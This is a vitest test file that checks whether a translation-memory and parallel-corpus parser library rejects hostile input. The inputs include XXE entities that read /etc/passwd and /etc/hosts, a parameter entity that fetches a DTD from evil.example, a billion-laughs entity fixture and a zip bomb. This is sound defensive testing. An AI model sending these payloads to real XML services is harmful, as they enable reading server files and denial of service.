import { describe, expect, it } from "vitest";
import { zipSync, strToU8 } from "fflate";
import { readTmx } from "./tmx";
import { readInterText } from "./intertext";
import { readTsv } from "./tsv";
import { readJsonl } from "./jsonl";
import { decodeInput } from "./encoding";
import { unzipFiles } from "./stream";
import { FormatError } from "./errors";
import { BILLION_LAUGHS, formatError } from "../../tests/formats/fixtures";

const TU = '<tu><tuv xml:lang="en"><seg>a</seg></tuv><tuv xml:lang="zh"><seg>甲</seg></tuv></tu>';
const tmx = (body: string, prolog = "") =>
  `<?xml version="1.0"?>\n${prolog}<tmx version="1.4"><header/><body>${body}</body></tmx>`;


describe("hostile and malformed XML", () => {
  it("refuses billion laughs (internal entity declarations) without expanding anything", () => {
    const lol = BILLION_LAUGHS + "\n";
    const t0 = Date.now();
    const e = formatError(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&lol9;</seg></tuv></tu>`, lol)));
    expect(e.message).toMatch(/entit/i);
    expect(e.line).toBeGreaterThan(1);
    expect(Date.now() - t0).toBeLessThan(1000);
  });

  it("refuses external entities (XXE) and parameter entities", () => {
    const xxe = '<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    expect(formatError(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv></tu>`, xxe))).message).toMatch(/entit/i);
    const pe = '<!DOCTYPE tmx [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>';
    expect(() => readTmx(tmx(TU, pe))).toThrow(FormatError);
    // also through the InterText reader
    const doc = `<!DOCTYPE text [<!ENTITY x SYSTEM "file:///etc/hosts">]><text><p id="1"><s id="1:1">&x;</s></p></text>`;
    expect(() => readInterText({ en: doc, zh: doc, links: "<linkGrp/>" })).toThrow(/entit/i);
  });

  it("an undefined entity reference is an error, not an expansion", () => {
    const e = formatError(() => readTmx(tmx(`<tu><tuv xml:lang="en"><seg>&nbsp;</seg></tuv></tu>`)));
    expect(e.message).toMatch(/undefined entity|entity/i);
  });

  it("accepts a plain DOCTYPE and one naming an external DTD (never fetched)", () => {
    expect(readTmx(tmx(TU, "<!DOCTYPE tmx>\n")).pairs).toHaveLength(1);
    expect(readTmx(tmx(TU, '<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n')).pairs).toHaveLength(1);
    const doc = `<?xml version='1.0' encoding='utf-8'?>\n<!DOCTYPE text>\n<text><p id="1"><s id="1:1">x</s></p></text>`;
    const links = `<?xml version='1.0' encoding='utf-8'?>\n<!DOCTYPE linkGrp>\n<linkGrp toDoc='a_en.xml' fromDoc='a_zh.xml'><link xtargets='1:1;1:1' status='man'/></linkGrp>`;
    expect(readInterText({ en: doc, zh: doc, links }).pairs).toHaveLength(1);
  });

  it("malformed XML fails with line and column", () => {
    const e = formatError(() => readTmx('<tmx version="1.4">\n<header/>\n<body>\n<tu><tuv xml:lang="en"><seg>a</tuv></tu>\n</body></tmx>'));
    expect(e.line).toBe(4);
    expect(e.column).toBeGreaterThan(1);
    expect(e.message).toMatch(/^TMX line 4, column \d+: malformed XML/);
    expect(formatError(() => readTmx("")).message).toMatch(/root|malformed/);
    expect(formatError(() => readTmx("<tmx><header/><body>")).message).toMatch(/malformed/);
    expect(formatError(() => readTmx(tmx(TU) + "<tmx/>")).message).toMatch(/malformed/);
  });

  it("caps nesting depth", () => {
    const deep = "<tmx>" + "<a>".repeat(100) + "</a>".repeat(100) + "</tmx>";
    expect(formatError(() => readTmx(deep)).message).toMatch(/nested deeper than 64/);
    expect(() => readTmx(deep, { maxDepth: 200 })).not.toThrow();
  });

  it("caps input size (bytes and strings)", () => {
    const big = tmx(TU.repeat(200));
    expect(formatError(() => readTmx(big, { maxBytes: 1000 })).message).toMatch(/over the 1000-byte limit/);
    expect(formatError(() => readTmx(Buffer.from(big), { maxBytes: 1000 })).message).toMatch(/limit/);
    expect(() => readTsv("a\tb\n".repeat(1000), { maxBytes: 100 })).toThrow(/limit/);
    expect(() => readJsonl('{"en":"a","zh":"b"}\n'.repeat(100), { maxBytes: 100 })).toThrow(/limit/);
  });

  it("a zip bomb is stopped by the real inflated size", () => {
    const bomb = zipSync({ "corpus.en": new Uint8Array(20 * 1024 * 1024) }, { level: 9 });
    expect(bomb.length).toBeLessThan(100_000);
    expect(() => unzipFiles(bomb, { format: "moses", maxBytes: 1024 * 1024 })).toThrow(/over the 1048576-byte limit/);
    expect(unzipFiles(zipSync({ "a.txt": strToU8("hi") }), { format: "zip" }).get("a.txt")).toEqual(strToU8("hi"));
  });
});

describe("encodings", () => {
  const text = '<?xml version="1.0" encoding="UTF-8"?><tmx version="1.4"><header/><body>' + TU + "</body></tmx>";
  it("UTF-8 with and without BOM, UTF-16LE and UTF-16BE with BOM", () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const be = Buffer.from(le);
    for (let i = 0; i < be.length; i += 2) [be[i], be[i + 1]] = [be[i + 1], be[i]];
    for (const input of [Buffer.from(text), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), le, be, "\uFEFF" + text]) {
      expect(readTmx(input).pairs[0].zh[0].text).toBe("甲");
    }
  });

  it("honours a legacy encoding named in the XML declaration", () => {
    const latin = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>caf\xe9</seg></tuv></tu></body></tmx>', "latin1");
    expect(readTmx(latin).pairs[0].en[0].text).toBe("café");
  });

  it("rejects binary input and invalid UTF-8 clearly", () => {
    const bin = Buffer.from([0x3c, 0x74, 0x00, 0x01, 0x02, 0xff]);
    expect(formatError(() => readTmx(bin)).message).toMatch(/binary \(NUL byte at offset 2\)/);
    expect(formatError(() => readTsv(Buffer.from("a\tb\0c\n"))).message).toMatch(/binary/);
    expect(formatError(() => readJsonl('{"en":"a\u0000"}')).message).toMatch(/binary/);
    expect(formatError(() => decodeInput(Buffer.from([0x61, 0xc3, 0x28]), { format: "text" })).message).toMatch(/not valid UTF-8/);
    // UTF-16 without BOM has NUL bytes: refused, and the message says why
    expect(formatError(() => readTsv(Buffer.from("a\tb\n", "utf16le"))).message).toMatch(/byte-order mark/);
  });
});
